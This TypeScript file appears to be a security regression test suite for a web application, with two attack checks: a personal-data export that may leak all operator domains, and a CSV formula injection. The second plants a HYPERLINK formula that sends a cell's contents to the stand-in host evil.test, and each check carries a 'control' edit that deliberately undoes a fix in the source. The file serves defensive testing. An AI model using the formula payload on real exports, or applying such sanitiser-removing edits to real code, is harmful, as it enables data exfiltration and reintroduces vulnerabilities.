import { setTimeout as delay } from 'node:timers/promises'
import { strFromU8, unzipSync } from 'fflate'
import { answerOf, reached, refused, type Attack } from './attack.ts'
import { guideOf } from './guide.ts'
import { confirmation, type Insider, type Installation } from './installation.ts'

/** Waits for a file that the user has requested, and downloads it. */
async function downloaded(target: Installation, user: Insider): Promise<Uint8Array> {
  for (let tries = 0; tries < 120; tries++) {
    const [report] = await target.rows(
      `select id, status, message from report_request where staff_id = $1 order by requested_at desc limit 1`,
      [user.staffId],
    )
    if (report?.status === 'READY') {
      const answer = await fetch(new URL(`/api/download-report/${report.id}/file`, target.url), {
        headers: { cookie: `session=${user.cookie('session')}`, 'x-requested-with': 'XMLHttpRequest' },
      })
      if (answer.status !== 200) throw new Error(`The file was not sent: ${answer.status} ${await answer.text()}`)
      return new Uint8Array(await answer.arrayBuffer())
    }
    if (report?.message) throw new Error(`The file was not written: ${report.message}`)
    await delay(500)
  }
  throw new Error('The file was not written in time')
}

const allDomainsNamed: Attack = {
  id: 'S15',
  title: 'The personal data file of a player names all domains',
  async run(target) {
    const domains: readonly { id: number; name: string }[] = await target.rows(
      'select id, name from domain order by id',
    )
    const clerk = await target.hire({ domains: domains.map(({ id }) => id) })
    const [{ id, domain }] = await target.rows(
      'select p.id::text, d.name as domain from player p join domain d on d.id = p.domain_id order by p.id limit 1',
    )
    const asked = await clerk.post(`/api/players/${id}/data-export`, confirmation)
    if (asked.status >= 300) throw new Error(`The file is not requested: ${answerOf(asked)}`)
    const { 'data.json': data } = unzipSync(await downloaded(target, clerk))
    const { operator } = JSON.parse(strFromU8(data ?? new Uint8Array())).about
    return operator === domain ? refused(`it names ${domain} only`) : reached(`it names ${operator}`)
  },
  control: {
    edits: [
      {
        file: 'src/areas/players/profile/personal-data/write-player-export.ts',
        find: 'operator: player.domain,',
        replace: 'operator: requester.operator,',
      },
    ],
  },
}

const formula = 'Pay by UPI;=HYPERLINK("https://evil.test?c="&A1)'

const formulas: Attack = {
  id: 'S5',
  title: 'Cells of a CSV file after a semicolon are formulas',
  async run(target) {
    const clerk = await target.hire()
    const saved = await clerk.post('/api/ht-deposit-create', {
      values: { ...(await guideOf(target)), title: formula },
      reason: confirmation.reason,
    })
    if (saved.status !== 200) throw new Error(`The guide is not saved: ${answerOf(saved)}`)
    const report = { report_type: '/ht-deposit', file_extension: 'csv', filter_data: { title: 'HYPERLINK' } }
    const asked = await clerk.post('/api/report-download/request', report)
    if (asked.status >= 300) throw new Error(`The file is not requested: ${answerOf(asked)}`)
    const text = strFromU8(await downloaded(target, clerk))
    const [cell = ''] = /Pay by UPI;[^,]*/.exec(text) ?? []
    return /;\s*["]*=/.test(cell)
      ? reached(`a cell that begins with ${cell.split(';')[1]}`)
      : refused(`it reads ${cell}`)
  },
  control: {
    edits: [
      {
        file: 'src/engine/exports/report.ts',
        find: `\${text.replace(innerStart, "'")}`,
        replace: '${innerStart && text}',
      },
    ],
  },
}

export const fileAttacks: readonly Attack[] = [formulas, allDomainsNamed]
